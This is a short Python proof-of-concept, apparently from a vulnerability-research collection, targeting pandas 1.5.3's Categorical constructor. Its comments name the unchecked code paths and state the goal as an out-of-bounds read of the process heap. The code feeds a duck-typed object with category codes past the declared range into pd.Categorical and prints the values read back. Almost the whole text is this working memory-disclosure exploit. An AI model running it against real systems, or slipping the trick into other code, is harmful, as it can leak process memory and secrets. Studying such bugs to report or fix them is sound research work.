# source: pandas 1.5.3 pandas/core/arrays/categorical.py Categorical.__init__: for values whose dtype is categorical it takes extract_array(values)._codes and recode_for_categories() returns them unchanged when the categories are equal (no range check); pandas/core/array_algos/take.py take_nd and _libs/groupby.pyx group_sum index with them unchecked
# family: duck-typed categorical (variant: dtype and _codes as class attributes, read back through astype)
# goal: out-of-bounds read of the process heap
import numpy as np
import pandas as pd


class Levels:
    dtype = pd.CategoricalDtype(list(range(300)))
    _codes = np.array([0, 299, 300, 301, 302, 303, 304, 5000], dtype="int64")

    def __iter__(self):
        return iter([])


cat = pd.Categorical(Levels())
print("codes:", list(cat.codes), "of", len(cat.categories), "categories")
print("values read:", cat.astype("int64").tolist())
